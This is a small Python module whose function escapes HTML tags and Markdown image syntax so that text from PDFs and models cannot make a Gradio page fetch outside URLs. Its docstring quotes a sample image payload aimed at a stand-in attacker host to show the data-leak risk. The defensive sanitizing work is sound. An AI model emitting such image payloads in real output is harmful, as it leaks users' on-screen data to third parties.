"""Text from PDFs and models shown as Markdown without letting it reach out of the page.

A PDF line like ``![](https://attacker/?q=...)`` or ``<img src=...>`` rendered as Markdown makes
every reader's browser fetch that URL (a tracking pixel, or a way to leak what is on screen).
Gradio's HTML sanitizer keeps images, so images are defused here: ``![`` loses its meaning
and ``<`` is shown as a character instead of starting a tag. Links stay (they need a click).
"""

from __future__ import annotations


def safe_markdown(text: str) -> str:
    return (text or "").replace("<", "&lt;").replace("![", "!\\[")
